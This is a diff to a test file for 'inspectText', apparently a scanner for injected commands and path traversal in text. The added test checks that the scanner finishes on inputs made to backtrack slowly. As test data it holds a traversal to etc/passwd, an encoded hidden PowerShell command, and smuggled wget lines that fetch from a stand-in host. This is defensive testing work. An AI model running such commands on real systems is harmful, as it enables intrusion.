@@ -203,8 +203,22 @@ test('inspectText is sure of options that run a program, behind other options an
     deepEqual(kindsOf(text), [], text);
 });
 
+test('inspectText comes to an end where a pattern has many ways to read a text', () => {
+  // Each step doubled the time, or each kilobyte made it eight times as long.
+  for (const text of [
+    `please read this here ${'..//'.repeat(400)}x`,
+    `please read this here ${'....//\\'.repeat(200)}x`,
+    `powershell ${'-a \n\t \n b '.repeat(200)}-`,
+    `powershell -a${' '.repeat(4_000)}`,
+    `../${'/'.repeat(2_000)}`,
+  ])
+    deepEqual(kindsOf(text), [], text.slice(0, 40));
+  ok(kindsOf(`please read this here ${'..//'.repeat(80)}etc/passwd`).includes('path'));
+  ok(kindsOf('powershell -nop  -w hidden -enc ZQBjAGgAbwA=').includes('command'));
+});
+
 test('inspectText finds a program at either end of a very long word', () => {
-  const directories = 'a/../'.repeat(2_000);
+  const directories = 'a/../'.repeat(800);
   deepEqual(kindsOf(`x; /${directories}bin/wget http://evil.example/x -O /tmp/x`).includes('command'), true);
   deepEqual(kindsOf(`x; /${directories}b?n/w?et http://evil.example/x -O /tmp/x`).includes('command'), true);
   deepEqual(kindsOf(`x; wget\${IFS}http://evil.example/${'a'.repeat(5_000)}`).includes('command'), true);
